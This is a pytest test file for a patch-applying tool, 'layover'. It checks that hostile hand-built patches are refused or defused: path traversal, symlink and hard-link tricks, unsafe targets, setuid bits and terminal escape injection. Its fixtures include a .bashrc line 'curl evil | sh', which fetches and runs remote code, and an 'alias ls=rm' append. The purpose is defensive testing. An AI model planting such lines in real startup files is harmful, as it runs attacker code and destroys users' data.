"""Patches from someone else (issue 21), each built BY HAND with
patch_builder.py, not by `layover save`: what they will do is visible before
they are applied, and they get no further than a saved patch would."""
import json
import os
import stat
import tarfile

import pytest

from apply_util import tree
from patch_builder import PatchBuilder, dir_base, real_base, tar_bytes


def err_line(r):
    return r.stderr.decode(errors="replace").strip().splitlines()[-1]


def applied(lo, patch, *extra, target=None):
    return lo("apply", patch, "--target", target or lo.target, "--yes", *extra)


# --- trailing bytes -----------------------------------------------------------


def test_data_after_the_tar_end_is_refused_and_zero_padding_is_not(lo, tmp_path):
    b = PatchBuilder(lo.target).file("new.txt", b"new\n")
    second = tar_bytes([(tarfile.TarInfo("../outside.txt"), b"pwned\n")])
    bad = b.write(tmp_path / "bad.tar.zst", trailing=second)
    before = tree(lo.target, mtimes=True)
    for verb in (["show", bad], ["diff", bad], ["apply", bad, "--target", lo.target, "--yes"]):
        r = lo(*verb)
        assert r.returncode in (1, 2), (verb, r.stderr)
        assert "data after the end of its tar archive" in err_line(r), (verb, err_line(r))
    assert tree(lo.target, mtimes=True) == before
    # Zero padding (here 64 KiB of it) is what the format allows.
    ok = b.write(tmp_path / "ok.tar.zst", trailing=bytes(65536))
    assert lo("show", ok).returncode == 0
    r = applied(lo, ok)
    assert r.returncode == 0, r.stderr
    assert (lo.target / "new.txt").read_bytes() == b"new\n"


# --- members beneath a non-directory -----------------------------------------


@pytest.mark.parametrize("first", ["symlink", "file"])
def test_a_member_beneath_a_symlink_or_file_member_is_refused_naming_both(lo, tmp_path, victim, first):
    b = PatchBuilder(lo.target)
    if first == "symlink":
        b.symlink("a", str(victim))
    else:
        b.file("a", b"plain\n")
    b.file("a/x", b"through it\n")
    patch = b.write(tmp_path / "p.tar.zst")
    before = tree(lo.target, mtimes=True)
    for verb in (["show", patch], ["apply", patch, "--target", lo.target, "--yes"]):
        r = lo(*verb)
        assert r.returncode == 1, r.stderr
        line = err_line(r)
        assert "member a/x" in line and "beneath member a, which is a " + first in line, line
    assert tree(lo.target, mtimes=True) == before
    assert sorted(os.listdir(str(victim))) == ["victim.txt"]


# --- the target ----------------------------------------------------------------


@pytest.mark.parametrize("target,why", [
    ("/", "is the root directory"),
    ("relative/dir", "is not an absolute path"),
    ("/proc/self/cwd", "lies under /proc"),
    ("/sys/kernel", "lies under /sys"),
    ("/dev/shm", "lies under /dev"),
    ("{t}/../{n}", "is not canonical"),
    ("{t}/", "is not canonical"),
])
def test_a_bad_target_in_the_manifest_or_given_is_refused_before_anything_is_written(lo, tmp_path, target, why):
    target = target.format(t=lo.target, n=lo.target.name)
    patch = PatchBuilder(target).file("planted.txt", b"x\n").write(tmp_path / "p.tar.zst")
    before = tree(lo.target, mtimes=True)
    cwd_before = sorted(os.listdir(str(lo.target)))
    # The manifest's own target, with $HOME pointing at it so only the rule
    # under test can refuse it.
    r = lo("apply", patch, "--yes", env={"HOME": target if target.startswith("/") else "/"})
    assert r.returncode == 1, r.stderr
    assert why in err_line(r) and "pass --target DIR" in err_line(r), err_line(r)
    # Given with --target, the same rules (but for the '.' components and
    # trailing '/' a person types: see the next test).
    if target.startswith("/") and not target.endswith("/"):
        r = lo("apply", patch, "--target", target, "--yes")
        assert r.returncode == 1 and why in err_line(r), err_line(r)
    assert tree(lo.target, mtimes=True) == before and sorted(os.listdir(str(lo.target))) == cwd_before


def test_a_given_target_with_a_trailing_slash_or_dot_components_is_that_dir(lo, tmp_path):
    # `--target .` in the reviewer's copy, a shell completion's `dir/`: the
    # dir they name (refused as not canonical before); `..` still is.
    patch = PatchBuilder(lo.target).file("new.txt", b"n\n").write(tmp_path / "p.tar.zst")
    for given, cwd in ((str(lo.target) + "/", None), (".", lo.target), ("./", lo.target),
                       (str(lo.target) + "//.", None)):
        r = lo("apply", patch, "--target", given, "--dry-run", cwd=cwd)
        assert r.returncode == 0, (given, r.stderr)
        assert r.stdout.decode().startswith("dry run: would apply 1 change(s) to %s:\n" % lo.target), r.stdout
    r = lo("apply", patch, "--target", "../" + lo.target.name, "--yes")
    assert r.returncode == 1 and "is not canonical" in err_line(r), err_line(r)
    r = lo("apply", patch, "--target", ".", "--yes")
    assert r.returncode == 0, r.stderr
    assert (lo.target / "new.txt").read_bytes() == b"n\n"


def test_a_manifest_target_outside_the_callers_home_needs_target(lo, tmp_path):
    patch = PatchBuilder(lo.target).file("new.txt", b"n\n").write(tmp_path / "p.tar.zst")
    elsewhere = tmp_path / "someone"
    elsewhere.mkdir()
    r = lo("apply", patch, "--yes", env={"HOME": str(elsewhere)})
    assert r.returncode == 1
    line = err_line(r)
    assert "not your home directory or beneath it" in line and "--target DIR" in line, line
    assert not (lo.target / "new.txt").exists()
    # Beneath the caller's home, the manifest's target is taken as it is.
    r = lo("apply", patch, "--yes", env={"HOME": str(lo.target.parent)})
    assert r.returncode == 0, r.stderr
    assert b"to " + str(lo.target).encode() in r.stdout
    assert (lo.target / "new.txt").read_bytes() == b"n\n"


def test_without_a_terminal_or_yes_a_foreign_target_and_yes_are_named_in_one_line(lo, tmp_path):
    # Another user's saved patch, no terminal: one refusal names --target and
    # --yes (it took two round trips: first --yes, then --target).
    patch = PatchBuilder(lo.target).file("new.txt", b"n\n").write(tmp_path / "p.tar.zst")
    elsewhere = tmp_path / "someone"
    elsewhere.mkdir()
    r = lo("apply", patch, env={"HOME": str(elsewhere)})
    assert r.returncode == 2, r.stderr
    lines = r.stderr.decode().strip().splitlines()
    assert len(lines) == 1, lines
    assert "not your home directory or beneath it" in lines[0] and "--target DIR" in lines[0], lines
    assert "and pass --yes: there is no terminal to ask on" in lines[0], lines
    # A good --target: only --yes is missing, as before.
    r = lo("apply", patch, "--target", lo.target, env={"HOME": str(elsewhere)})
    assert r.returncode == 2 and "--target" not in err_line(r), err_line(r)
    assert "without confirmation: there is no terminal to ask on; pass --yes" in err_line(r), err_line(r)
    assert not (lo.target / "new.txt").exists()
    r = lo("apply", patch, "--target", lo.target, "--yes", env={"HOME": str(elsewhere)})
    assert r.returncode == 0, r.stderr
    assert (lo.target / "new.txt").read_bytes() == b"n\n"


def test_a_target_that_is_a_symlink_is_refused_and_a_symlinked_parent_is_followed(lo, tmp_path):
    real_parent = tmp_path / "usr-home"
    real_parent.mkdir()
    (real_parent / "ann").mkdir()
    linked_parent = tmp_path / "home-link"
    linked_parent.symlink_to(real_parent)
    link_target = tmp_path / "target-link"
    link_target.symlink_to(real_parent / "ann")
    p1 = PatchBuilder(link_target).file("a.txt", b"a\n").write(tmp_path / "p1.tar.zst")
    r = lo("apply", p1, "--yes", env={"HOME": str(tmp_path)})
    assert r.returncode == 1 and "is a symlink" in err_line(r), err_line(r)
    assert os.listdir(str(real_parent / "ann")) == []
    # /home -> /usr/home: the target's parent is a symlink; it is resolved.
    p2 = PatchBuilder(linked_parent / "ann").file("a.txt", b"a\n").write(tmp_path / "p2.tar.zst")
    r = lo("apply", p2, "--yes", env={"HOME": str(linked_parent / "ann")})
    assert r.returncode == 0, r.stderr
    assert (real_parent / "ann" / "a.txt").read_bytes() == b"a\n"


def test_show_and_diff_name_the_target_and_show_lists_modes_sizes_and_risks(lo, tmp_path):
    b = PatchBuilder("/home/someone-else")
    b.file(".bashrc", b"curl evil | sh\n", mode=0o644)
    b.file("bin/tool", b"#!/bin/sh\n", mode=0o6777)
    b.dir("shared", mode=0o1777)
    patch = b.write(tmp_path / "p.tar.zst")
    r = lo("show", patch)
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert out.splitlines()[0].startswith("target: /home/someone-else"), out
    assert "A  .bashrc  [0644, 15 B]  ! shell startup file" in out or ".bashrc  [0644, 15 B]  !" in out, out
    assert "bin/tool  [6777, 10 B]  ! " in out and "setuid/setgid bit (never applied)" in out, out
    assert "shared/  [1777]" in out, out
    r = lo("diff", patch)
    assert b"layover: diff of patch %s; target: /home/someone-else" % bytes(patch) in r.stderr, r.stderr


def test_diff_stat_lists_modes_sizes_and_risk_marks_as_show_does_and_keeps_stdout_gits(lo, tmp_path):
    b = PatchBuilder(lo.target)
    b.file(".bashrc", b"curl evil | sh\n", mode=0o644)
    b.file("tool", b"#!/bin/sh\n", mode=0o6755)
    b.file("run.sh", b"echo\n", mode=0o755)
    b.file("plain.txt", b"x\n", mode=0o644)
    b.dir("shared", mode=0o1777)
    b.dir("keep", mode=0o1755)
    patch = b.write(tmp_path / "p.tar.zst")
    show = lo("show", patch).stdout.decode().splitlines()
    r = lo("diff", patch, "--stat")
    assert r.returncode == 1, r.stderr
    # stdout is git's table, untouched.
    assert r.stdout.decode().splitlines()[-1] == " 4 files changed, 4 insertions(+)", r.stdout
    assert b"!" not in r.stdout and b"[" not in r.stdout
    # Under the risk lines' header, as `diff` lists them; the sticky bit alone under its own.
    err = r.stderr.decode().splitlines()[1:]
    assert err == ["layover: 4 changes marked ! need a careful look:",
                   "  A  .bashrc  [0644, 15 B]  ! shell startup file",
                   "  A  tool  [6755, 10 B]  ! executable, setuid/setgid bit (never applied)",
                   "  A  run.sh  [0755, 5 B]  ! executable",
                   "  A  shared/  [1777]  ! group/world-writable",
                   "layover: 1 change with a set-id or sticky bit:",
                   "  A  keep/  [1755]"], r.stderr
    for line in err:  # the very lines show prints
        assert line.startswith("layover: ") or line[2:] in show, (line, show)
    # A path selection limits them too.
    r = lo("diff", patch, "--stat", "--", "run.sh")
    assert r.stderr.decode().splitlines()[1:] == ["layover: 1 change marked ! need a careful look:",
                                                  "  A  run.sh  [0755, 5 B]  ! executable"], r.stderr


def test_diff_stat_of_a_session_marks_its_risky_changes(lo):
    lo.run("echo 'alias ls=rm' >> .bashrc; mkdir -m 1777 pub; printf x > bin.sh; chmod 4755 bin.sh",
           session="s", check=True)
    r = lo("diff", "s", "--stat", env={"HOME": str(lo.target)})
    assert r.returncode == 1, r.stderr
    lines = r.stderr.decode().splitlines()
    assert lines[0] == "layover: 3 changes marked ! need a careful look:", lines
    assert "  A  .bashrc  [0644, 12 B]  ! shell startup file" in lines, lines
    assert any(l.startswith("  A  bin.sh  [4755, 1 B]  ! executable, setuid") for l in lines), lines
    assert "  A  pub/  [1777]  ! group/world-writable" in lines, lines


# --- modes -----------------------------------------------------------------------


def test_a_sticky_directory_keeps_its_sticky_bit_and_set_id_bits_are_never_applied(lo, tmp_path):
    b = PatchBuilder(lo.target)
    b.dir("shared", mode=0o1777)
    b.file("tool", b"#!/bin/sh\n", mode=0o6755)
    patch = b.write(tmp_path / "p.tar.zst")
    r = applied(lo, patch)
    assert r.returncode == 0, r.stderr
    assert "[1777]" in r.stdout.decode() and "[6755, 10 B]" in r.stdout.decode(), r.stdout
    assert stat.S_IMODE(os.lstat(str(lo.target / "shared")).st_mode) == 0o1777
    assert stat.S_IMODE(os.lstat(str(lo.target / "tool")).st_mode) == 0o755


# --- user xattr names ------------------------------------------------------------


NAMES = ["user.a%b", "user.k=v", "user.with space", "user.ctl\x01\x1b[31m", "user.\xe9t\xe9"]


def needs_user_xattrs(path):
    try:
        os.setxattr(str(path), "user.probe", b"1")
        os.removexattr(str(path), "user.probe")
    except OSError as e:
        from conftest import missing_feature
        missing_feature("user.* xattrs on the test filesystem: %s" % e)


def test_xattr_names_with_percent_equals_space_and_controls_round_trip_from_a_hand_built_patch(lo, tmp_path):
    needs_user_xattrs(lo.target)
    xattrs = {n.encode("utf-8", "surrogateescape"): ("v-%d" % i).encode() for i, n in enumerate(NAMES)}
    b = PatchBuilder(lo.target).file("x.txt", b"x\n", xattrs=xattrs)
    patch = b.write(tmp_path / "p.tar.zst")
    assert lo("show", patch).returncode == 0, lo("show", patch).stderr
    r = applied(lo, patch)
    assert r.returncode == 0, r.stderr
    got = {n: os.getxattr(str(lo.target / "x.txt"), n) for n in os.listxattr(str(lo.target / "x.txt"))}
    assert {os.fsencode(k): v for k, v in got.items()} == xattrs


def test_xattr_names_round_trip_through_save_show_diff_and_apply(lo, tmp_path):
    needs_user_xattrs(lo.target)
    script = "; ".join("os.setxattr('notes.txt', %r, b'v%d')" % (n, i) for i, n in enumerate(NAMES[:4]))
    r = lo.run("cd '%s' && python3 -c \"import os; %s\"" % (lo.target, script.replace('"', '\\"')), session="xa")
    assert r.returncode == 0, r.stderr
    patch = tmp_path / "xa.tar.zst"
    lo("save", "xa", "-o", patch, check=True)
    assert lo("show", patch).returncode == 0
    assert lo("diff", patch).returncode in (0, 1)
    r = applied(lo, patch)
    assert r.returncode == 0, r.stderr
    assert set(os.listxattr(str(lo.target / "notes.txt"))) == set(NAMES[:4])


# --- a moving tree during the commit -----------------------------------------------


def test_a_parent_moved_out_during_the_commit_is_not_written_into_and_the_apply_rolls_back(lo, tmp_path):
    from test_apply_atomic import run_stopped
    from apply_util import dir_mover
    b = PatchBuilder(lo.target)
    b.file("docs/a.txt", b"A\n").file("docs/b.txt", b"B\n")
    patch = b.write(tmp_path / "p.tar.zst")
    moved = tmp_path / "moved"
    move_docs_out = dir_mover(lo, moved)

    rc, out, err = run_stopped(lo, ["apply", patch, "--target", lo.target, "--yes"], "apply:rename:1", move_docs_out)
    assert rc == 1, (out, err)
    assert b"was moved or replaced while applying" in err and b"nothing was applied" in err, err
    assert sorted(os.listdir(str(moved))) == ["readme.txt"], os.listdir(str(moved))
    assert os.listdir(str(lo.target / "docs")) == []


# --- deep paths ------------------------------------------------------------------


def test_an_8000_byte_path_works_in_show_diff_and_apply(lo, tmp_path):
    parts = ["d%03d" % i + "x" * 95 for i in range(80)]
    deep = "/".join(parts) + "/leaf.txt"
    assert len(deep) > 8000
    b = PatchBuilder(lo.target)
    for i in range(len(parts)):
        b.dir("/".join(parts[:i + 1]))
    b.file(deep, b"deep\n")
    patch = b.write(tmp_path / "p.tar.zst")
    assert lo("show", patch).returncode == 0
    r = lo("diff", patch, "--stat")
    assert r.returncode == 1 and b"leaf.txt" in r.stdout, r.stderr
    r = applied(lo, patch)
    assert r.returncode == 0, r.stderr
    fd = os.open(str(lo.target), os.O_RDONLY)
    try:
        for p in parts:
            nfd = os.open(p, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nfd
        with open(os.open("leaf.txt", os.O_RDONLY, dir_fd=fd), "rb") as f:
            assert f.read() == b"deep\n"
    finally:
        os.close(fd)
    r = lo("diff", patch, "--stat")  # now against the applied tree too
    assert r.returncode in (0, 1), r.stderr


# --- opaque dirs, as older saves wrote them -----------------------------------


def test_an_opaque_dir_of_an_older_save_still_replaces_the_real_dir(lo, tmp_path):
    # `save` now compares a removed and remade dir with the real one; a
    # patch saved before (an opaque_dir with its .wh..wh..opq marker) still
    # reads and applies as it did: the real dir's old content goes.
    t = lo.target
    (t / "d" / "sub").mkdir(parents=True)
    (t / "d" / "a").write_text("a\n")
    (t / "d" / "sub" / "b").write_text("b\n")
    subtree = []
    for rel in ("d/a", "d/sub", "d/sub/b"):
        rec = dir_base(t / rel) if rel == "d/sub" else real_base(t / rel)
        rec["path"] = rel
        subtree.append(rec)
    b = PatchBuilder(t).opaque_dir("d", dir_base(t / "d"), subtree).file("d/c", b"c\n")
    patch = b.write(tmp_path / "old.tar.zst")
    r = lo("show", patch, "--json")
    assert r.returncode == 0, r.stderr
    assert {c["path"]: c["kind"] for c in json.loads(r.stdout)} == {"d": "opaque_dir", "d/c": "added"}
    r = applied(lo, patch)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert sorted(os.listdir(str(t / "d"))) == ["c"] and (t / "d" / "c").read_text() == "c\n"


def test_a_hard_link_listed_as_another_file_than_its_target_is_refused(lo, tmp_path):
    # The manifest lists notes-copy.txt as a 10-byte 0644 file; its member is
    # a hard link to a.sh, a 1000-byte 0755 script: apply would write the
    # script under that name while show and the apply list said otherwise.
    b = PatchBuilder(lo.target).file("a.sh", b"#!/bin/sh\necho hi\n" * 50 + b"#" * 100, mode=0o755)
    b._change("notes-copy.txt", "added", "file", 0o644, size=10)
    info = tarfile.TarInfo("notes-copy.txt")
    info.type, info.linkname, info.mode, info.mtime = tarfile.LNKTYPE, "a.sh", 0o644, 1700000000
    bad = b.raw_member(info).write(tmp_path / "hl.tar.zst")
    before = tree(lo.target, mtimes=True)
    for verb in (["show", bad], ["diff", bad], ["apply", bad, "--target", lo.target, "--yes"]):
        r = lo(*verb)
        assert r.returncode in (1, 2), (verb, r.stderr)  # diff: 2, its trouble exit
        assert "notes-copy.txt: a hard link to a.sh" in err_line(r), (verb, err_line(r))
    assert tree(lo.target, mtimes=True) == before


def test_hostile_text_in_the_manifest_header_is_printed_inert(lo, tmp_path):
    # session, created, command, version and label are the patch author's
    # text: show, diff, log and apply print them escaped (created reached
    # the terminal raw: ESC[8m concealed what followed).
    b = PatchBuilder(lo.target, session="s\x1b[2J\u009b\u202e").file("a.txt", b"hi\n")
    b.manifest.update({"created": "2026\x1b[8m", "command": ["sh", "-c", "x\x1b]0;t\x07\r\n"],
                       "version": "0.1\x1b[31m", "label": "lab\x1b[8m"})
    p = b.write(tmp_path / "h.tar.zst")
    for verb in (["show", p], ["show", "--json", p], ["diff", p, "--color=never"], ["log", p],
                 ["apply", p, "--target", lo.target, "--dry-run"]):
        r = lo(*verb)
        out = r.stdout + r.stderr
        for bad in (b"\x1b", b"\x07", b"\r", b"\xc2\x9b", b"\xe2\x80\xae"):
            assert bad not in out, (verb, out)
    assert b'created "2026\\x1b[8m"' in lo("show", p).stdout
